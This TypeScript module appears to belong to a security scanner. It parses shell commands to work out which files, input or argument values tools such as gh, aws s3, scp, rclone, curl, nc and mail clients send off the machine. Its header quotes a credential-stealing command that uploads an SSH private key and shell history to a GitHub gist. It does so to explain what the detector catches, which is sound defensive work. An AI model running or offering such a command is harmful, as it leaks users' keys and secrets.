/**
 * Command-line tools that send files over the network, read from one command's words: which operands
 * leave the machine (a gist's files, an upload's body, a copy's sources when its destination is remote),
 * whether standard input does, and which argument values travel in the request (a field, an issue body).
 * The 2025-26 skill stealers uploaded SSH keys and shell history with the GitHub CLI to a secret gist
 * (`gh gist create ~/.ssh/id_ed25519 ~/.bash_history`); the same bytes leave as well through a bucket
 * copy, `scp`, `rclone`, a mail attachment or a raw socket. Words are the command's arguments with
 * quotes removed, the program first (leading `sudo`, `env`, `VAR=value` assignments are skipped here).
 */
export interface CliUpload {
  /** The command as its tool names it: `gh gist create`, `aws s3 cp`, `scp`. */
  tool: string;
  /** Operands whose bytes the command sends. */
  files: string[];
  /** It sends what it reads from standard input. */
  stdin: boolean;
  /** Argument values that travel in the request (a field, a body, a title): a substitution there is sent. */
  values: string[];
  /**
   * 'publish': a paste, gist, issue, message, raw socket or web upload; 'store': a copy to a bucket, a
   * server or a remote the caller names (also where deployments send their configuration).
   */
  channel: 'publish' | 'store';
  /** The destination's host, where the command names one (a URL, `user@host:`, `nc host port`); null for a variable. */
  host: string | null;
  /** `git push`, `gh repo create --push`: what leaves is the repository's commits. */
  push?: boolean;
}

/** Words that start a command without being it. */
const PREFIX = /^(?:sudo|doas|env|command|exec|nohup|nice|time|builtin|setsid|stdbuf)$/;

/** The command's program and arguments, prefixes (`sudo -E`, `env A=1`, `timeout 30`, `VAR=x`) off. */
export function commandWords(words: readonly string[]): string[] {
  let i = 0;
  for (let guard = 0; i < words.length && guard < 12; guard++) {
    const w = words[i] as string;
    if (/^[A-Za-z_]\w*=/.test(w)) i++;
    else if (PREFIX.test(w)) {
      i++;
      while (i < words.length && /^-/.test(words[i] as string)) i++;
    } else if (w === 'timeout') {
      i++;
      while (i < words.length && /^-/.test(words[i] as string)) i++;
      i++;
    } else break;
  }
  return words.slice(i);
}

const LOCAL_HOST = /^(?:localhost|127\.[\d.]+|0\.0\.0\.0|\[?::1\]?)$/i;

/** `[user@]host:path` (not `C:\…`, not `./a:b`), the destination form of scp and rsync. */
function remoteSpec(word: string): string | null {
  const m = /^([\w.+-]+@)?(\[[^\]]+\]|[A-Za-z0-9][\w.-]*):(?!\/\/)/.exec(word);
  // `C:\x` is a drive, `u@h:/x` a host.
  if (m === null || (m[1] === undefined && /^[A-Za-z]$/.test(m[2] as string))) return null;
  return m[2] as string;
}

function urlHost(word: string): string | null {
  return /^(?:https?|ftp|wss?):\/\/(?:[^@/\s]*@)?([^/\s:?#]+)/i.exec(word)?.[1] ?? null;
}

/**
 * The positional operands of a command: words that are not options and not an option's value.
 * `valued` lists the options that take the next word (`-d`, `--desc`); `--opt=value` carries its own.
 */
function operands(args: readonly string[], valued: RegExp): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--') {
      out.push(...args.slice(i + 1));
      break;
    }
    if (a.startsWith('-') && a !== '-') {
      if (!a.includes('=') && valued.test(a)) i++;
      continue;
    }
    out.push(a);
  }
  return out;
}

/** Values of an option wherever it appears (`-F v`, `--field v`, `--field=v`, `-Fv` for a short one). */
export function optionValues(args: readonly string[], option: RegExp): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    const eq = /^(--?[\w-]+)=([\s\S]*)$/.exec(a);
    if (eq !== null && option.test(eq[1] as string)) out.push(eq[2] as string);
    else if (option.test(a) && i + 1 < args.length) out.push(args[++i] as string);
    else if (/^-[A-Za-z]./.test(a) && !a.startsWith('--') && option.test(a.slice(0, 2))) out.push(a.slice(2));
  }
  return out;
}

/** `k=@file` (gh api -F, curl -F), `@file` (curl -d): the file; `@-`: standard input. */
function atFile(value: string): string | null {
  const m = /^(?:[^=@<]*=)?[@<]([\s\S]+)$/.exec(value);
  return m === null ? null : (m[1] as string).replace(/;type=[\w/+.-]+$/, '');
}

/** Sources of a copy whose last operand is remote, by a test of the destination. */
function copyToRemote(tool: string, ops: readonly string[], remote: (w: string) => string | null, channel: CliUpload['channel']): CliUpload | null {
  if (ops.length < 2) return null;
  const dest = ops[ops.length - 1] as string;
  const host = remote(dest);
  if (host === null) return null;
  const sources = ops.slice(0, -1).filter((o) => remote(o) === null);
  return sources.length === 0 ? null : { tool, files: sources.filter((s) => s !== '-'), stdin: sources.includes('-'), values: [], channel, host };
}

function gh(args: readonly string[]): CliUpload | null {
  const [group, verb] = args;
  const rest = args.slice(2);
  const tool = `gh ${group} ${verb}`;
  if (group === 'gist' && (verb === 'create' || verb === 'new')) {
    const ops = operands(rest, /^(?:-d|--desc|-f|--filename)$/);
    const files = ops.filter((o) => o !== '-');
    return { tool, files, stdin: ops.length === 0 || ops.includes('-'), values: optionValues(rest, /^(?:-d|--desc)$/), channel: 'publish', host: 'gist.github.com' };
  }
  if (group === 'gist' && verb === 'edit') return { tool, files: optionValues(rest, /^(?:-a|--add)$/), stdin: false, values: [], channel: 'publish', host: 'gist.github.com' };
  if (group === 'api') {
    const api = args.slice(1);
    const fields = optionValues(api, /^(?:-F|--field)$/);
    const files = fields.map(atFile).filter((f): f is string => f !== null);
    const input = optionValues(api, /^--input$/);
    files.push(...input);
    return { tool: 'gh api', files: files.filter((f) => f !== '-'), stdin: files.includes('-'), values: [...fields, ...optionValues(api, /^(?:-f|--raw-field)$/)], channel: 'publish', host: 'api.github.com' };
  }
  if ((group === 'issue' || group === 'pr' || group === 'discussion') && /^(?:create|new|comment|edit|review)$/.test(verb ?? '')) {
    const bodies = optionValues(rest, /^(?:-F|--body-file)$/);
    return { tool, files: bodies.filter((f) => f !== '-'), stdin: bodies.includes('-'), values: optionValues(rest, /^(?:-b|--body|-t|--title)$/), channel: 'publish', host: 'github.com' };
  }
  if (group === 'release' && (verb === 'create' || verb === 'upload')) {
    // `gh release upload TAG FILE#label…`: the files after the tag, and the notes file.
    const ops = operands(rest, /^(?:-t|--title|-n|--notes|-F|--notes-file|--target|-R|--repo|--discussion-category|--notes-start-tag)$/).slice(1);
    const notes = optionValues(rest, /^(?:-F|--notes-file)$/);
    return { tool, files: [...ops, ...notes].map((f) => f.replace(/#[^/]*$/, '')).filter((f) => f !== '-'), stdin: notes.includes('-'), values: optionValues(rest, /^(?:-n|--notes)$/), channel: 'publish', host: 'github.com' };
  }
  if (group === 'repo' && verb === 'create' && rest.some((a) => a === '--push')) return { tool, files: optionValues(rest, /^(?:-s|--source)$/), stdin: false, values: [], channel: 'store', host: 'github.com', push: true };
  return null;
}

function aws(args: readonly string[]): CliUpload | null {
  const i = args.findIndex((a) => a === 's3' || a === 's3api');
  if (i < 0) return null;
  const service = args[i] as string;
  const verb = args[i + 1];
  const rest = args.slice(i + 2);
  if (service === 's3api' && (verb === 'put-object' || verb === 'upload-part')) {
    const body = optionValues(rest, /^--body$/);
    return body.length === 0 ? null : { tool: `aws s3api ${verb}`, files: body, stdin: false, values: [], channel: 'store', host: 's3.amazonaws.com' };
  }
  if (service !== 's3' || !/^(?:cp|mv|sync)$/.test(verb ?? '')) return null;
  const ops = operands(rest, /^--(?!recursive$|dryrun$|quiet$|no-progress$|only-show-errors$|follow-symlinks$|no-follow-symlinks$|delete$|exact-timestamps$|size-only$|no-guess-mime-type$|force-glacier-transfer$|ignore-glacier-warnings$|no-sign-request$|debug$|no-verify-ssl$|no-paginate$)[\w-]+$/);
  return copyToRemote(`aws s3 ${verb}`, ops, (w) => (/^s3:\/\//.test(w) ? 's3.amazonaws.com' : null), 'store');
}

function gcs(tool: string, verbArgs: readonly string[]): CliUpload | null {
  const i = verbArgs.findIndex((a) => /^(?:cp|mv|rsync)$/.test(a));
  if (i < 0) return null;
  const ops = operands(verbArgs.slice(i + 1), /^(?:-z|-Z|-h|-p|-x|-a|-s|-j|-J|-L|--cache-control|--content-type|--storage-class|--project|--additional-headers)$/);
  return copyToRemote(`${tool} ${verbArgs[i]}`, ops, (w) => (/^gs:\/\//.test(w) ? 'storage.googleapis.com' : null), 'store');
}

function az(args: readonly string[]): CliUpload | null {
  if (args[0] !== 'storage' || !/^(?:blob|file|fs)$/.test(args[1] ?? '')) return null;
  const verb = args[2] ?? '';
  if (!/^(?:upload|upload-batch)$/.test(verb) && !(args[1] === 'fs' && args[2] === 'file' && args[3] === 'upload')) return null;
  const files = optionValues(args.slice(3), /^(?:-f|--file|-s|--source)$/);
  return files.length === 0 ? null : { tool: `az storage ${args[1]} ${verb}`, files, stdin: false, values: [], channel: 'store', host: 'blob.core.windows.net' };
}

const RSYNC_VALUED = /^(?:-e|--rsh|--exclude|--include|--exclude-from|--include-from|--files-from|--filter|-f|--port|--password-file|--log-file|--chmod|--chown|-B|--block-size|--timeout|--bwlimit|--backup-dir|--suffix|--partial-dir|-T|--temp-dir|--rsync-path|--max-size|--min-size|--compare-dest|--copy-dest|--link-dest|-M|--remote-option|--out-format|--usermap|--groupmap)$/;

/** What one command sends, or null when it is no upload this reader knows. */
export function cliUpload(words: readonly string[]): CliUpload | null {
  const cmd = commandWords(words);
  const program = (cmd[0] ?? '').replace(/^.*[/\\]/, '').replace(/\.exe$/i, '');
  const args = cmd.slice(1);
  switch (program.toLowerCase()) {
    case 'gh':
      return gh(args);
    case 'git': {
      // `git -C dir push …`: what leaves is the repository's commits (the caller knows what was added).
      const verbAt = args.findIndex((a, k) => !a.startsWith('-') && !/^(?:-C|-c|--git-dir|--work-tree)$/.test(args[k - 1] ?? ''));
      if (args[verbAt] !== 'push') return null;
      const dir = optionValues(args.slice(0, verbAt), /^-C$/);
      return { tool: 'git push', files: dir, stdin: false, values: [], channel: 'store', host: null, push: true };
    }
    case 'aws':
      return aws(args);
    case 'gsutil':
      return gcs('gsutil', args);
    case 'gcloud':
      return args[0] === 'storage' ? gcs('gcloud storage', args.slice(1)) : null;
    case 'az':
      return az(args);
    case 'azcopy':
      if (!/^(?:copy|cp|sync)$/.test(args[0] ?? '')) return null;
      return copyToRemote(`azcopy ${args[0]}`, operands(args.slice(1), /^--(?:include-pattern|exclude-pattern|log-level|from-to|blob-type)$/), (w) => urlHost(w), 'store');
    case 'rclone': {
      const verb = args[0] ?? '';
      const rest = operands(args.slice(1), /^(?:--config|--include|--exclude|--filter|--filter-from|--include-from|--exclude-from|--files-from|--transfers|--checkers|--bwlimit|--max-age|--min-age|--max-size|--min-size|--log-file|--log-level|--backup-dir|--suffix)$/);
      const remote = (w: string) => (/^[\w.-]{2,}:/.test(w) && !/^(?:https?|ftp):/.test(w) ? (w.split(':')[0] as string) : null);
      if (verb === 'rcat') return rest[0] !== undefined && remote(rest[0]) !== null ? { tool: 'rclone rcat', files: [], stdin: true, values: [], channel: 'store', host: remote(rest[0]) } : null;
      return /^(?:copy|copyto|sync|move|moveto|bisync)$/.test(verb) ? copyToRemote(`rclone ${verb}`, rest, remote, 'store') : null;
    }
    case 'scp':
      return copyToRemote('scp', operands(args, /^-[iFPocSJlD]$/), remoteSpec, 'store');
    case 'rsync':
      return copyToRemote('rsync', operands(args, RSYNC_VALUED), (w) => (/^rsync:\/\//.test(w) ? urlHost(w.replace(/^rsync/, 'ftp')) : remoteSpec(w)), 'store');
    case 'curl':
      return curl(args);
    case 'wget': {
      const files = optionValues(args, /^--(?:post-file|body-file)$/);
      const values = optionValues(args, /^--(?:post-data|body-data)$/);
      if (files.length === 0 && values.length === 0) return null;
      return { tool: 'wget', files: files.filter((f) => f !== '-'), stdin: files.includes('-'), values, channel: 'publish', host: hostOf(args) };
    }
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'telnet': {
      // A listener (`nc -l`) receives; a client sends what it reads.
      if (args.some((a) => /^-[a-zA-Z]*l/.test(a) || a === '--listen')) return null;
      const ops = operands(args, /^-[pswiqWxXOIT]$/);
      if (ops.length < 1) return null;
      return { tool: program, files: [], stdin: true, values: [], channel: 'publish', host: ops[0] as string };
    }
    case 'socat': {
      const ops = operands(args, /^$/);
      const net = ops.find((o) => /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|OPENSSL|SSL):/i.test(o));
      if (net === undefined) return null;
      const files = ops.filter((o) => /^(?:FILE|OPEN|GOPEN|CREATE):/i.test(o)).map((o) => o.replace(/^\w+:/, '').replace(/,.*$/, ''));
      return { tool: 'socat', files, stdin: ops.some((o) => /^(?:-|STDIN|STDIO)$/i.test(o)), values: [], channel: 'publish', host: net.split(':')[1] ?? null };
    }
    case 'openssl':
      return args[0] === 's_client' ? { tool: 'openssl s_client', files: [], stdin: true, values: [], channel: 'publish', host: (optionValues(args, /^-connect$/)[0] ?? '').split(':')[0] ?? null } : null;
    case 'ssh': {
      // `ssh host 'cat > x' < file`: standard input travels to the remote command.
      const ops = operands(args, /^-[bcDEeFIiJLlmOopQRSWw]$/);
      if (ops.length === 0 || args.includes('-N') || args.includes('-f')) return null;
      return { tool: 'ssh', files: [], stdin: true, values: [], channel: 'store', host: (ops[0] as string).replace(/^[^@]*@/, '') };
    }
    case 'mail':
    case 'mailx':
    case 's-nail':
    case 'mutt':
    case 'neomutt': {
      const attached = optionValues(args, /^(?:-a|-A|--attach)$/);
      return { tool: program, files: attached, stdin: true, values: optionValues(args, /^-s$/), channel: 'publish', host: null };
    }
    case 'sendmail':
    case 'msmtp':
    case 'ssmtp':
      return { tool: program, files: [], stdin: true, values: [], channel: 'publish', host: null };
    case 'swaks':
      return { tool: 'swaks', files: optionValues(args, /^--(?:attach|attach-body|body)$/).map((v) => v.replace(/^@/, '')), stdin: false, values: [], channel: 'publish', host: null };
    case 'pastebinit':
    case 'ffsend':
    case 'croc':
    case 'wormhole': {
      const ops = operands(args, /^-[abtiuf]$/).filter((o) => !/^(?:send|upload)$/.test(o));
      return { tool: program, files: ops.filter((o) => o !== '-'), stdin: ops.length === 0 || ops.includes('-'), values: [], channel: 'publish', host: null };
    }
    case 'invoke-webrequest':
    case 'iwr':
    case 'invoke-restmethod':
    case 'irm': {
      const files = optionValues(args, /^-InFile$/i);
      return files.length === 0 ? null : { tool: program, files, stdin: false, values: optionValues(args, /^-Body$/i), channel: 'publish', host: hostOf(args) };
    }
    case 'send-mailmessage':
      return { tool: 'Send-MailMessage', files: optionValues(args, /^-Attachments?$/i).flatMap((v) => v.split(',')), stdin: false, values: optionValues(args, /^-Body$/i), channel: 'publish', host: null };
    default:
      return null;
  }
}

function hostOf(args: readonly string[]): string | null {
  for (const a of args) {
    const h = urlHost(a);
    if (h !== null) return h;
  }
  return null;
}

function curl(args: readonly string[]): CliUpload | null {
  const data = optionValues(args, /^(?:-d|--data|--data-binary|--data-ascii|--json)$/);
  const encoded = optionValues(args, /^--data-urlencode$/);
  const raw = optionValues(args, /^--data-raw$/);
  const forms = optionValues(args, /^(?:-F|--form)$/);
  const uploads = optionValues(args, /^(?:-T|--upload-file)$/);
  if (data.length + encoded.length + raw.length + forms.length + uploads.length === 0) return null;
  const files: string[] = [...uploads];
  for (const v of data) if (v.startsWith('@')) files.push(v.slice(1));
  // `--data-urlencode name@file` reads a file as `-d @file` does.
  for (const v of encoded) if (/^[\w.-]*@/.test(v)) files.push(v.replace(/^[\w.-]*@/, ''));
  for (const v of forms) {
    const f = atFile(v);
    if (f !== null) files.push(f);
  }
  return { tool: 'curl', files: files.filter((f) => f !== '-'), stdin: files.includes('-'), values: [...data, ...encoded, ...raw, ...forms], channel: 'publish', host: hostOf(args) };
}

/** A host that is this machine: nothing leaves. */
export function localHost(host: string | null): boolean {
  return host !== null && LOCAL_HOST.test(host);
}
